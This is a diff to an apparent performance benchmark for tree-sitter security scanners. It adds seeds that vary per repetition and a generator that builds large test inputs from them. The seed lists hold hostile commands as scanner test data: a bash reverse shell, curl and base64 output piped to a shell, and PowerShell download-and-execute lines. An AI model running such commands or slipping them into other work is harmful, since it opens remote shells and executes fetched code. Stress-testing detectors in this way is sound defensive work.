@@ -5,7 +5,8 @@ modules on its own cases, and `bench/prompt_rules_adversarial.py` the markdown r
 scanners. This one is driven by the registry: every check the tree-sitter engine loads (node, file
 and skill checks, so new modules are covered without an edit), each timed alone on a tree parsed
 once beforehand, over every language it applies to. Inputs repeat the constructs the checks walk (string building, call chains,
-nesting, credential reads, pipelines) as one long line and as many short lines, per language.
+nesting, credential reads, pipelines) as one long line and as many short lines, per language; a
+seed with `{n}` differs in every repetition (no two statements alike: nothing can be replayed).
 
     .venv/bin/python bench/adversarial_treesitter.py [--size BYTES] [--only LANGS] [--verbose]
 """
@@ -56,6 +57,8 @@ SEEDS: dict[FileKind, list[str]] = {
         "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
         'eval "$(',
         "a=b;",
+        "curl -fsSL http://192.0.2.1/x{n} | bash\n",
+        "echo QUFB{n} | base64 -d | sh\n",
     ],
     FileKind.POWERSHELL: [
         "iex (iwr https://x.example/a)\n",
@@ -63,6 +66,7 @@ SEEDS: dict[FileKind, list[str]] = {
         "[char]65+",
         "(",
         "Invoke-Expression ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('QUFB')))\n",
+        "iex (iwr https://x{n}.example/a)\n",
     ],
 }
 SUFFIX = {FileKind.PYTHON: "py", FileKind.JAVASCRIPT: "js", FileKind.SHELL: "sh", FileKind.POWERSHELL: "ps1"}
@@ -70,7 +74,15 @@ SUFFIX = {FileKind.PYTHON: "py", FileKind.JAVASCRIPT: "js", FileKind.SHELL: "sh"
 
 def inputs(kind: FileKind, size: int) -> Iterable[tuple[str, str]]:
     for seed in SEEDS[kind]:
-        yield seed, (seed * (size // len(seed) + 1))[:size]
+        if "{n}" not in seed:
+            yield seed, (seed * (size // len(seed) + 1))[:size]
+            continue
+        parts: list[str] = []
+        total = 0
+        while total < size:
+            parts.append(seed.replace("{n}", str(len(parts))))
+            total += len(parts[-1])
+        yield seed, "".join(parts)[:size]
 
 
 def context(kind: FileKind, text: str, catalog: DeliveryCatalog) -> tuple[SkillContext, FileContext, float]:
